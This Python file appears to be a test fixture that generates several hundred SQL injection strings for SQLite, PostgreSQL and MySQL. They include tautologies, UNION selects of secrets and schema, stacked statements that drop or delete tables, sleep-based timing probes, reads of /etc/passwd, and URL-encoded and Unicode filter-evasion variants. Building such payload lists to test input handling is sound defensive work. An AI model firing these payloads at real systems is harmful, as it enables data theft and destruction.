"""Texts that would be orders if any place took a value for SQL: quotes, comments,
unions, second statements, conditions that are true or false, functions that take
their time, for SQLite, PostgreSQL and MySQL, in several spellings.

    PAYLOADS    at least 300, each once
    RAW         how the same is hidden from a filter, as it stands in a URL
"""

# What would end the value: nothing, quotes, brackets, of other scripts too.
ENDS = ["'", '"', "`", "')", '")', "'))", "", "\\'", "''", "’", "ʼ", "＇", "“",
        "ฯ'", "ๆ\"", "'\t"]
# What would hide what stands behind it.
HIDES = ["--", "-- -", "#", "/*", ";--", "\n--"]
# Conditions.
TRUE = ["or 1=1", "or 'a'='a'", "OR 1=1", "oR/**/1=1", "|| 1=1", "or true",
        "or not false", "or 1 like 1", "or 1 in (1)", "or 2>1",
        "or exists(select 1)", "or length(secret)>0",
        "or secret like 'sekret%'", "or ๑=๑", "and 1=2", "and 1=1",
        "or 1=1 limit 1 offset 0", "having 1=1", "group by 1 having 1=1",
        "or 1=1 order by 1"]
UNIONS = ["union select 1", "union all select null,null,null",
          "union select secret from t", "union select name from other",
          "union select sql from sqlite_master",
          "union select sqlite_version()",
          "union select version()", "union select @@version",
          "union select usename from pg_user",
          "union select table_name from information_schema.tables",
          "UNION/**/SELECT/**/1", "uNiOn sElEcT 1", "intersect select 1",
          "except select 1", "union values(1)",
          "union select 1,2,3,4,5,6,7"]
STACKED = ["; drop table t", "; delete from t", "; update t set name='x'",
           "; insert into t values(1)", "; select 1", "; attach 'x.db' as x",
           "; pragma writable_schema=1", "; create table x(y)", "; vacuum",
           "; begin", "; commit", "; copy t to '/tmp/x'",
           "; set role postgres", "; do $$ begin perform 1; end $$"]
# Each would take five seconds or more, where it ran.
SLOW = ["pg_sleep(6)", "sleep(6)", "benchmark(900000000,md5(1))",
        "like('abcdefg',upper(hex(randomblob(900000000/2))))",
        "randomblob(900000000)", "zeroblob(2000000000)",
        "(select count(*) from t a,t b,t c,t d,t e)",
        "(with recursive r(n) as (select 1 union all select n+1 from r)"
        " select max(n) from r)",
        "(select count(*) from generate_series(1,900000000))",
        "load_extension('x')", "readfile('/etc/passwd')",
        "pg_read_file('/etc/passwd')", "writefile('/tmp/x','x')",
        "dblink('host=127.0.0.1','select 1')", "lo_import('/etc/passwd')"]
# Words of the languages around: where a name or an order may stand.
PLACES = ["id;", "id--", "id,(select 1)", "(select secret from t limit 1)",
          "case when secret>'m' then id else name end", "id desc;--",
          "id) from t--", "id from other--", "secret collate nocase",
          "rowid", "oid", "_rowid_", "t.id", "main.t", "\"id\"", "[id]", "`id`",
          "id as secret", "count(*)", "distinct id", "*,secret", "id desc,1",
          "1,2", "id/**/desc", "id+0", "-id", "id||name", "@@version", "@1",
          "@2", ":word", "$1", "?1", "?", "{fn now()}", "eq.1", "in.(1)",
          "(1)or(1)=(1)", "1 or 1=1", "1;select 1", "1-0", "0x31", "1e0",
          "null or 1=1", "%' or '%'='", "_' or ''='", "\\", "\\\\'", "\\\"",
          "'||'", "'+'", "' '", "';", "'/*", "*/'", "';--", "'=''", "'<>'",
          "'|(1)|'", "' glob '*", "' in ('", "' between 'a' and 'z",
          "' collate nocase", "' is not null", "${7*7}", "{{7*7}}", "$$x$$",
          "E'\\x27'", "U&'\\0027'", "x'27'", "char(39)", "chr(39)||'a'",
          "concat(char(39))", "%27", "%2527", "&#39;", "\\u0027", "\\x27",
          "ก' or 'ข'='ข", "ก\"ข", "“ก” or 1=1", "‘ก’ or ‘ก’=‘ก’", "ๆ'--",
          "ฺ'", "์' or 1=1--", "' หรือ 1=1--"]


def made():
    for i, condition in enumerate(TRUE):
        for k, end in enumerate(ENDS):
            if (i + k) % 3 == 0:
                yield f"{end} {condition}{HIDES[(i + k) % len(HIDES)]}"
    for i, union in enumerate(UNIONS):
        for k in (0, 1, 3):
            yield f"{ENDS[(i + k) % len(ENDS)]} {union}" \
                  f"{HIDES[(i * 2 + k) % len(HIDES)]}"
    for i, order in enumerate(STACKED):
        for k in (0, 1, 6):
            yield f"{ENDS[k]}{order}{HIDES[i % 3]}"
    for i, slow in enumerate(SLOW):
        yield f"' or {slow}--"
        yield f"1 and {slow}"
        yield f"'||{slow}||'"
        yield f"'; select {slow}--"
    yield from PLACES


PAYLOADS = list(dict.fromkeys(made()))

# (as written in a URL, the literal meaning or None: no text at all)
RAW = [("%27%20or%201=1--", "' or 1=1--"), ("%2527%2520or%25201", "%27%20or%201"),
       ("'+or+1=1--", "' or 1=1--"), ("%00'", None), ("a%00", None),
       ("%C0%A7 or 1=1".replace(" ", "+"), None), ("%bf%27", None),
       ("%FF", None), ("%u0027", None), ("%", None), ("%2", None),
       ("%E2%80%99+or+1=1", "’ or 1=1"), ("%0a'%0d%0a--", "\n'\r\n--"),
       ("%1b'", None), ("%7f'", None), ("%ED%A0%80", None),
       ("%E0%B8%81'%09or%091=1", "ก'\tor\t1=1")]
